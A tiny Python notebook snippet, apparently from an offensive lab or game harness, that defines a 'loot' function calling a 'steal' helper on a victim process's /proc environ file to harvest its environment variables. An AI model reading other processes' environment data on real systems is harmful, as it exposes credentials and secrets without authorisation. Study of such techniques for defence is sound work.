# %%
from kit import *

# %%
def loot():
    return steal(f"/proc/{WORLD['victim']}/environ")
